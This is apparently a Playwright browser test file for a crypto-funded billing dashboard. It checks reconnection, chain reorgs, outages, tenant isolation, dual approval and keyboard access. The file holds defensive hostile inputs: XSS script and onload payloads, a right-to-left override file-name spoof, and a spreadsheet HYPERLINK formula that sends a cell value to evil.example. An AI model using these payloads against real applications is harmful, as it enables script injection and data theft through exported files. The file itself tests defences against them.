/**
 * What a person meets on a bad day, in a real browser against the real service: a network that breaks, a chain that takes blocks back, a
 * service that is away, text that wants to be more than text, no mouse. The good days are in test/browser.
 */
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { parseUsd, parseUsdOrZero } from '../../src/core/money.ts';
import { openChromium, type WatchedPage } from '../support/browser/chromium.ts';
import { signIn } from '../support/browser/pages.ts';
import { waitLoaded } from '../support/browser/walk.ts';
import { openStage, type Stage } from '../support/browser/stage.ts';

const CREDIT_MS = 90_000;
const SHOWN = { timeout: 30_000 };
/** Blocks come each second and are final after twice as many: there is time for the chain to take one back. */
const SLOTS = 8;
const TABS_MAX = 90;

const SCRIPT = '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">';
/** Shows `exe.txt` for `txt.exe` where it is not kept in its place. */
const TURNED = 'bill \u202Etxt.exe\u2066';
const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"open")';
const E_MAIL = '"><svg onload=alert(1)>@evil.example';
const BILLING = ['', '/top-up', '/money-in', '/money-in?tab=orders', '/ledger', '/holds', '/statements', '/budgets'];
const SETTINGS = ['/auto-refill', '/products', '/team', '/webhooks', '/settings'];

let stage: Stage;
let browser: Browser;
let org: string;
let key: string;
beforeAll(async () => {
  [stage, browser] = await Promise.all([openStage({ slotsInAnEpoch: SLOTS }), openChromium()]);
  ({ org, key } = await stage.createOrg('Acme Robotics'));
  stage.issuer.setPerson({ user: 'ada', orgs: { [org]: 'owner' } });
  stage.issuer.setPerson({ user: 'opal', platformAdmin: true });
  stage.issuer.setPerson({ user: 'otto', platformAdmin: true });
});
afterAll(async () => {
  await browser.close();
  await stage.stop();
});

const signedIn = async (user: string): Promise<WatchedPage> => signIn(browser, stage, { user });
const available = async (page: Page): Promise<bigint> => {
  const shown = await page.getByTestId('available').innerText();
  return shown.startsWith('−')
    ? -parseUsdOrZero(shown.replace(/[−$,]/g, ''))
    : parseUsdOrZero(shown.replace(/[$,]/g, ''));
};
/** What a page said of calls that broke on purpose is no fault. */
const others = (faults: readonly string[]): string[] =>
  faults.filter((one) => !/ERR_|Failed to load resource/.test(one));

/** Registers an address of the chain and leads the page to where its transfers are followed. */
async function expectTransfer(page: Page, index: number): Promise<string> {
  const sender = stage.chain.accounts[index] ?? '';
  await stage.chain.faucet(sender, parseUsd('100'));
  await page.goto(`${stage.url}/app/billing/top-up?amount=20`);
  await page.getByLabel('Sending address').fill(sender);
  await page.getByRole('button', { name: 'Show where to send' }).click();
  await page.getByText('Waiting for your transfer').waitFor();
  return sender;
}

it(
  'goes on by itself after the stream of events was cut while a transfer was on its way',
  { timeout: 240_000 },
  async () => {
    const { page, faults, context } = await signedIn('ada');
    const before = await available(page);
    const live = page.getByText('Live', { exact: true });
    await live.waitFor();
    const sender = await expectTransfer(page, 1);
    const streams: number[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith('/events/stream')) streams.push(response.status());
    });
    await stage.chain.send({ from: sender, to: stage.chain.creditsAddress, amountMicros: parseUsd('20') });
    await page
      .getByTestId('life')
      .getByText(/Seen on chain|Confirming/)
      .waitFor({ timeout: CREDIT_MS });
    stage.cutConnections();
    await expect.poll(() => streams, SHOWN).toContain(200);
    await live.waitFor();
    await page.getByTestId('life').getByText('Credited').waitFor({ timeout: CREDIT_MS });
    await page.getByRole('link', { name: 'Overview' }).click();
    await expect.poll(async () => available(page), SHOWN).toBe(before + parseUsd('20'));
    expect(others(faults)).toEqual([]);
    await context.close();
  },
);

it(
  'shows that the chain dropped a transfer, and credits it once when it is in a block again',
  { timeout: 300_000 },
  async () => {
    const { page, faults, context } = await signedIn('ada');
    const before = await available(page);
    const sender = await expectTransfer(page, 2);
    const life = page.getByTestId('life');
    const { blockNumber } = await stage.chain.send({
      from: sender,
      to: stage.chain.creditsAddress,
      amountMicros: parseUsd('11'),
    });
    await life.getByText(/Seen on chain|Confirming/).waitFor({ timeout: CREDIT_MS });
    const head = await stage.chain.head();
    await stage.chain.reorg(head - blockNumber + 1);
    await life.getByText('Dropped by the chain').waitFor({ timeout: CREDIT_MS });
    await life.getByText('The chain replaced its block. It may come back.').waitFor();
    // The same sender, amount and number of the sender's transaction: it is the same transaction.
    await stage.chain.send({ from: sender, to: stage.chain.creditsAddress, amountMicros: parseUsd('11') });
    await life.getByText('Credited').waitFor({ timeout: CREDIT_MS });
    expect([await life.getByText('$11.00').count(), await life.getByText('Dropped by the chain').count()]).toEqual([
      1, 0,
    ]);
    await page.getByRole('link', { name: 'Overview' }).click();
    await expect.poll(async () => available(page), SHOWN).toBe(before + parseUsd('11'));
    expect(others(faults)).toEqual([]);
    await context.close();
  },
);

it('says that the service is away, keeps what it knew, and goes on when it is back', { timeout: 240_000 }, async () => {
  const { page, faults, context } = await signedIn('ada');
  const before = await available(page);
  await page.getByText('Live', { exact: true }).waitFor();
  await stage.service.stop();
  try {
    await page.getByText('Reconnecting').waitFor(SHOWN);
    expect(await available(page)).toBe(before);
    await page.getByRole('link', { name: 'Holds', exact: true }).click();
    await page.getByText('No connection to the service').waitFor(SHOWN);
  } finally {
    await stage.service.start();
  }
  await page.getByText('Live', { exact: true }).waitFor({ timeout: CREDIT_MS });
  await page
    .getByRole('button', { name: 'Try again' })
    .click()
    .catch(() => undefined);
  await page.getByText('No connection to the service').waitFor({ state: 'detached', ...SHOWN });
  await stage.call(key, 'POST', '/treasury/debit', { serviceType: 'AI_API', amountUsd: '1.25' });
  await page.getByRole('link', { name: 'Overview' }).click();
  await expect.poll(async () => available(page), SHOWN).toBe(before - parseUsd('1.25'));
  expect(others(faults)).toEqual([]);
  await context.close();
});

it('shows text from outside as text, in pages and in files', { timeout: 300_000 }, async () => {
  const named = await stage.createOrg(SCRIPT);
  stage.issuer.setPerson({ user: E_MAIL, orgs: { [named.org]: 'owner' } });
  const spend = { serviceType: 'AI_API', amountUsd: '0.01', metadata: { note: FORMULA } };
  const { key: admin } = await stage.run('keys', 'create', '--kind', 'admin', '--name', SCRIPT);
  const grant = { type: 'GRANT', amountUsd: '5', reason: SCRIPT };
  await stage.call(String(admin), 'POST', `/admin/orgs/${named.org}/entries`, grant);
  for (const text of [SCRIPT, TURNED, FORMULA, '@SUM(1)', '+1', '-1'])
    await stage.call(named.key, 'POST', '/treasury/debit', {
      ...spend,
      description: text,
      reference: text.slice(0, 60),
    });
  const sender = stage.chain.accounts[4] ?? '';
  await stage.call(named.key, 'POST', '/treasury/register-sender', { address: sender, label: SCRIPT });
  const { page, faults, context } = await signedIn(E_MAIL);
  for (const path of [...BILLING, ...SETTINGS]) {
    await page.goto(`${stage.url}/app/billing${path}`);
    await waitLoaded(page);
    expect([path, await page.evaluate('window.hacked ?? 0')]).toEqual([path, 0]);
    expect([path, await page.locator('header').getByText(SCRIPT, { exact: true }).count()]).toEqual([path, 1]);
  }
  await page.goto(`${stage.url}/app/billing/ledger`);
  await page.getByText(SCRIPT, { exact: true }).nth(1).waitFor();
  // A turned text stays in its place: what stands after it is read as it was written.
  await page.locator('bdi', { hasText: 'bill' }).first().waitFor();
  const kept = `[...document.querySelectorAll('bdi')].filter((one) => one.innerText.includes('\\u202E'))
    .map((one) => getComputedStyle(one).unicodeBidi)`;
  expect(new Set(await page.evaluate<string[]>(kept))).toEqual(new Set(['isolate']));
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download CSV' }).click(),
  ]);
  const rows = parse<Record<string, string>>(readFileSync(await file.path(), 'utf8'), { columns: true, bom: true });
  const texts = rows.flatMap(({ description = '', reference = '' }) => [description, reference]);
  for (const text of [FORMULA, '@SUM(1)', '+1', '-1']) expect(texts).toContain(`'${text}`.slice(0, 1_000));
  expect(texts.filter((text) => /^[=+@-]/.test(text))).toEqual([]);
  await context.close();
  const desk = await signedIn('opal');
  for (const path of [
    '/orgs',
    `/orgs/${named.org}`,
    '/audit',
    `/search?q=${encodeURIComponent(SCRIPT.slice(0, 20))}`,
  ]) {
    await desk.page.goto(`${stage.url}/app/desk${path}`);
    await waitLoaded(desk.page);
    expect([path, await desk.page.evaluate('window.hacked ?? 0')]).toEqual([path, 0]);
  }
  expect([...faults, ...desk.faults]).toEqual([]);
  await desk.context.close();
});

it('shows nothing of one org to another', { timeout: 240_000 }, async () => {
  const { org: other } = await stage.createOrg('Beta Works');
  stage.issuer.setPerson({ user: 'bea', orgs: { [other]: 'owner' } });
  await stage.call(key, 'POST', '/treasury/hold', {
    serviceType: 'AI_API',
    amountUsd: '1',
    reference: 'acme-secret-1',
  });
  await stage.call(key, 'POST', '/treasury/budgets', {
    subject: 'teamId',
    value: 'acme-secret-2',
    period: 'month',
    limitUsd: '5',
    mode: 'hard',
  });
  const secrets = ['Acme', org, 'acme-secret', ...stage.chain.accounts.slice(1, 3)];
  const { page, faults, context } = await signedIn('bea');
  await page.evaluate(`localStorage.setItem('coffer.org', ${JSON.stringify(org)})`);
  for (const path of [...BILLING, ...SETTINGS]) {
    await page.goto(`${stage.url}/app/billing${path}${path.includes('?') ? '&' : '?'}org=${org}`);
    await waitLoaded(page);
    const shown = (await page.locator('body').innerText()).toLowerCase();
    expect([path, secrets.filter((one) => shown.includes(one.toLowerCase()))]).toEqual([path, []]);
  }
  const asked = await page.evaluate<
    number[]
  >(`Promise.all(['balance', 'ledger', 'holds', 'deposits', 'senders'].map(async (what) =>
    (await fetch('/treasury/' + what, { headers: { 'Coffer-Org': ${JSON.stringify(org)} } })).status))`);
  expect(asked.filter((status) => status !== 403 && status !== 404)).toEqual([]);
  await page.goto(`${stage.url}/app/desk/orgs/${org}`);
  await page.getByText('The desk is for platform admins').waitFor();
  expect(others(faults)).toEqual([]);
  await context.close();
});

it('moves the status with the thresholds', { timeout: 120_000 }, async () => {
  const { page, faults, context } = await signedIn('ada');
  const set = async (low: string, critical: string): Promise<void> => {
    await page.getByRole('link', { name: 'Settings' }).click();
    await page.getByLabel('Low balance, in dollars').fill(low);
    await page.getByLabel('Critical balance, in dollars').fill(critical);
    const [answer] = await Promise.all([
      page.waitForResponse((response) => response.request().method() === 'PATCH'),
      page.getByRole('button', { name: 'Save thresholds' }).click(),
    ]);
    expect(answer.status()).toBe(200);
    await page.getByRole('link', { name: 'Overview' }).click();
  };
  await set('1000000', '');
  await page.getByText('Low', { exact: true }).waitFor();
  await page.getByText('Spending works; top up soon.').waitFor();
  await set('1000000', '900000');
  await page.getByText('Critical', { exact: true }).waitFor();
  await set('', '');
  await page.getByText('Healthy', { exact: true }).waitFor();
  expect(faults).toEqual([]);
  await context.close();
});

it('lets a second person approve a booking, not the one who asked', { timeout: 120_000 }, async () => {
  const { page, faults, context } = await signedIn('opal');
  const before = (await stage.call(key, 'GET', '/treasury/balance'))['availableUsd'];
  await page.goto(`${stage.url}/app/desk/orgs/${org}`);
  await page.getByLabel('Amount, in dollars').fill('150');
  await page.getByLabel('Reason, for the ledger').fill('the contract of this year');
  await page.getByRole('button', { name: 'Book…' }).click();
  await page.getByRole('button', { name: 'Book it' }).click();
  await page.getByRole('link', { name: 'waits for a second person' }).click();
  await page.getByRole('button', { name: 'Approve and book' }).click();
  await page.getByRole('alert').waitFor();
  expect((await stage.call(key, 'GET', '/treasury/balance'))['availableUsd']).toBe(before);
  const second = await signedIn('otto');
  await second.page.getByRole('link', { name: 'Approvals' }).click();
  await second.page.getByText('the contract of this year').waitFor();
  await second.page.getByRole('button', { name: 'Approve and book' }).click();
  await second.page.getByText('Approved').waitFor(SHOWN);
  const balance = async (): Promise<unknown> => (await stage.call(key, 'GET', '/treasury/balance'))['availableUsd'];
  const micros = (usd: unknown): bigint => parseUsdOrZero(String(usd));
  await expect.poll(async () => micros(await balance()), SHOWN).toBe(micros(before) + parseUsd('150'));
  // The refusal of the first person's approval is what the browser reports.
  expect(others([...faults, ...second.faults])).toEqual([]);
  await Promise.all([context.close(), second.context.close()]);
});

it('trusts an org with its own payment account after asking, and ends that at once', { timeout: 120_000 }, async () => {
  const { page, faults, context } = await signedIn('opal');
  await page.goto(`${stage.url}/app/desk/orgs/${org}`);
  const { key: admin } = await stage.run('keys', 'create', '--kind', 'admin', '--name', 'test');
  const trusted = async (): Promise<unknown> =>
    (await stage.call(String(admin), 'GET', `/admin/orgs/${org}`))['orgBilling'];
  const shown = page.getByRole('switch', { name: 'Trusted with its own payment account' });
  await shown.click();
  await page.getByRole('button', { name: 'Do not trust it' }).click();
  expect(await trusted()).toEqual({ trusted: false });
  await shown.click();
  await page.getByRole('button', { name: 'Trust the org' }).click();
  await expect.poll(trusted, SHOWN).toEqual({ trusted: true });
  await expect.poll(async () => shown.isChecked(), SHOWN).toBe(true);
  await page.getByRole('button', { name: 'Do not trust it' }).waitFor({ state: 'detached' });
  await shown.click();
  await expect.poll(trusted, SHOWN).toEqual({ trusted: false });
  expect(faults).toEqual([]);
  await context.close();
});

/** Goes from one element to the next as the Tab key does, until one has that name. Fails where it is not visible that it has the focus. */
async function tabTo(page: Page, name: RegExp): Promise<void> {
  for (let tabs = 0; tabs < TABS_MAX; tabs += 1) {
    await page.keyboard.press('Tab');
    const [found, seen] = await page.evaluate<[string, boolean]>(`(() => {
      const element = document.activeElement;
      const style = getComputedStyle(element);
      const label = element.labels?.[0]?.innerText ?? '';
      const name = element.getAttribute('aria-label') ?? (label || element.innerText || '');
      return [name, style.outlineStyle !== 'none' || element.matches('input, select, textarea')];
    })()`);
    if (!name.test(found)) continue;
    expect([found, seen]).toEqual([found, true]);
    return;
  }
  throw new Error(`the Tab key does not lead to ${String(name)}`);
}

it('is used without a mouse: a top-up, an entry, a key that is revoked', { timeout: 240_000 }, async () => {
  const { page, faults, context } = await signedIn('ada');
  await waitLoaded(page);
  const sender = stage.chain.accounts[5] ?? '';
  await tabTo(page, /^Top up$/);
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Top up', level: 1 }).waitFor();
  await tabTo(page, /^Growth/);
  await page.keyboard.press('Space');
  await tabTo(page, /^Sending address/);
  await page.keyboard.type(sender);
  await page.keyboard.press('Enter');
  await page.getByText('Waiting for your transfer').waitFor();
  await tabTo(page, /^Copy the address$/);
  await tabTo(page, /^Ledger$/);
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Ledger', level: 1 }).waitFor();
  await waitLoaded(page);
  await tabTo(page, /^(AI call|Hold|Grant|Deposit)$/);
  await page.keyboard.press('Enter');
  await page.getByText('Available after', { exact: true }).last().waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  // The focus is back where it was.
  await expect.poll(async () => page.evaluate('document.activeElement.className'), SHOWN).toContain('open');
  await tabTo(page, /^Members and keys$/);
  await page.keyboard.press('Enter');
  await tabTo(page, /^Create a key$/);
  await page.keyboard.press('Enter');
  await tabTo(page, /^Name/);
  await page.keyboard.type('by keyboard');
  await tabTo(page, /^Create the key$/);
  await page.keyboard.press('Enter');
  await tabTo(page, /^I have copied it$/);
  await page.keyboard.press('Enter');
  await tabTo(page, /^Revoke by keyboard$/);
  await page.keyboard.press('Enter');
  await tabTo(page, /^Revoke the key$/);
  await page.keyboard.press('Enter');
  await page.getByText('Revoked').first().waitFor();
  expect(faults).toEqual([]);
  await context.close();
});
